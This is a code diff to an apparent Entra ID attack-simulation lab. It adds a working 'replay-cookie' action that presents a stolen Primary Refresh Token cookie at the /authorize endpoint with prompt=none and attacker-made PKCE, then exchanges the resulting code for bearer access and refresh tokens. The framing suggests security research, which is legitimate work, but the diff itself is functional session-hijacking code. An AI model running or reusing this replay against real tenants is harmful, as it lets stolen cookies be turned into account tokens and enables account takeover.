@@ -5,14 +5,14 @@
  * an artifact that does not work on this host (a copied device that does not open) is reported as
  * a local error.
  */
-import { randomBytes } from 'node:crypto';
+import { createHash, randomBytes } from 'node:crypto';
 import { readFile } from 'node:fs/promises';
 import { basename, dirname, join } from 'node:path';
 import { BrokerRpcError } from '../../broker/errors.ts';
 import { PROFILES, type ProfileName } from '../../clients/profiles.ts';
 import { RESOURCES, type ResourceTarget } from '../../clients/resources.ts';
 import { isPrtlabError } from '../../lib/errors.ts';
-import { WINDOWS_BROKER_CLIENT_ID } from '../../protocol/index.ts';
+import { PRT_COOKIE_NAME, WINDOWS_BROKER_CLIENT_ID } from '../../protocol/index.ts';
 import { fingerprint, jwtClaims } from '../fingerprint.ts';
 import { type ActionName, USER_AGENTS, type UserAgentName } from '../model.ts';
 import { EntraClient } from './entra.ts';
@@ -20,6 +20,9 @@ import type { Answer } from './http.ts';
 import type { AttackerSpec, Observation, RequestRecord, TokenFacts } from './protocol.ts';
 
 type Json = Record<string, unknown>;
+
+/** Where Entra's native clients take their codes from (read off the redirect, never fetched). */
+const NATIVE_CLIENT_REDIRECT_URI = 'https://login.microsoftonline.com/common/oauth2/nativeclient';
 
 /** A password is shown by kind only: even a truncated hash of one is more than evidence needs. */
 const PASSWORD_FACTS: TokenFacts = { kind: 'user name and password', fingerprint: '' };
@@ -47,8 +50,11 @@ function profileOf(name: string | undefined) {
   return name === undefined ? undefined : PROFILES[name as ProfileName];
 }
 
-function userAgentHeaders(spec: AttackerSpec): Record<string, string> {
-  const ua = USER_AGENTS[(spec.with.userAgent ?? 'windows-desktop') as UserAgentName];
+function userAgentHeaders(
+  spec: AttackerSpec,
+  fallback: UserAgentName = 'windows-desktop',
+): Record<string, string> {
+  const ua = USER_AGENTS[(spec.with.userAgent ?? fallback) as UserAgentName];
   return ua ? { 'user-agent': ua } : {};
 }
 
@@ -321,8 +327,53 @@ const ACTIONS: Readonly<Record<ActionName, Action>> = {
   async 'replay-cookie'(spec, entra) {
     const cookie = await readJson(spec.artifact);
     const data = str(cookie, 'data');
-    await entra.signedRequest('the x-ms-RefreshTokenCredential cookie as a signed request', data);
-    return done(entra.records, { kind: 'PRT cookie', fingerprint: fingerprint(data) });
+    const stolen = { kind: 'PRT cookie', fingerprint: fingerprint(data) };
+    const client = profileOf(spec.with.client)!;
+    const ua = userAgentHeaders(spec, 'browser');
+    // The browser SSO path (prt-protocol §6.3, §8 "Cookie-only"): the cookie at /authorize for
+    // an authorization code, the code at the token endpoint. prompt=none, as a script that
+    // cannot type a password sends it: a cookie the cloud ignores then comes back as
+    // interaction_required rather than a login page (OpenID Connect Core §3.1.2.6). PKCE is the
+    // attacker's own: it protects a code in transit, not a stolen cookie.
+    const verifier = randomBytes(32).toString('base64url');
+    const state = randomBytes(16).toString('base64url');
+    const code = await entra.authorizationCode({
+      query: {
+        client_id: client.appId,
+        response_type: 'code',
+        redirect_uri: NATIVE_CLIENT_REDIRECT_URI,
+        resource: resourceOf(spec).resource,
+        state,
+        prompt: 'none',
+        code_challenge: createHash('sha256').update(verifier).digest('base64url'),
+        code_challenge_method: 'S256',
+      },
+      headers: {
+        ...ua,
+        ...(spec.with.transport === 'header'
+          ? { [PRT_COOKIE_NAME]: data }
+          : { cookie: `${PRT_COOKIE_NAME}=${data}` }),
+      },
+      redirectUri: NATIVE_CLIENT_REDIRECT_URI,
+      state,
+    });
+    if (code === undefined) return done(entra.records, stolen);
+    const a = await entra.token(
+      `authorization_code grant as ${client.displayName} with the code the cookie got`,
+      {
+        grant_type: 'authorization_code',
+        client_id: client.appId,
+        code,
+        redirect_uri: NATIVE_CLIENT_REDIRECT_URI,
+        code_verifier: verifier,
+      },
+      ua,
+    );
+    const got = issued(a);
+    // The access token names the device (the PRT's device claims carry over, §6.3), yet nothing
+    // of this session is bound: the answer is plain JSON with a bearer refresh token, where a
+    // bound session's is encrypted to the session key (§6.2, §7).
+    return done(entra.records, stolen, got && { ...got, deviceBound: false });
   },
 };
 
